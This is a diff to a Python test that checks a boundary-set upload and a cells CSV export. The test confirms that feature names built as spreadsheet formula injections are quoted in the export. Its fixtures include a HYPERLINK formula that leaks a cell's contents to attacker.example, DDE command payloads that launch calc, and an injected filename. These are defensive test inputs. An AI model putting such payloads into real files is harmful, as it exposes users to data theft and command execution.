@@ -14,7 +14,7 @@ FORMULA_NAMES = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Open")', "+cmd
                  "-2+3+cmd|' /C calc'!A0", "\tTab Parish", "\rReturn Parish"]
 
 
-def test_cells_csv_quotes_formula_names_and_keeps_negative_numbers(client, tokens, session, tmp_path):
+def test_cells_csv_quotes_formula_names_and_keeps_negative_numbers(client, tokens, store, tmp_path):
     collection = json.loads(KNA.read_text())
     renamed = {}
     for feature, name in zip(collection["features"], FORMULA_NAMES):
@@ -29,7 +29,7 @@ def test_cells_csv_quotes_formula_names_and_keeps_negative_numbers(client, token
         uploaded = client.post("/api/v1/boundary-sets", headers=auth(tokens["gis"]),
                                files={"file": ("=cmd|calc.geojson", handle)}, data={"activate": "true"})
     assert uploaded.status_code == 201, uploaded.text
-    _random_background(session, tmp_path, seed=7, n=600)
+    _random_background(store, tmp_path, seed=7, n=600)
     run = _run(client, tokens["analyst"], resolution=9, permutations=0, seed=3)
     assert run["status"] == "completed", run
 
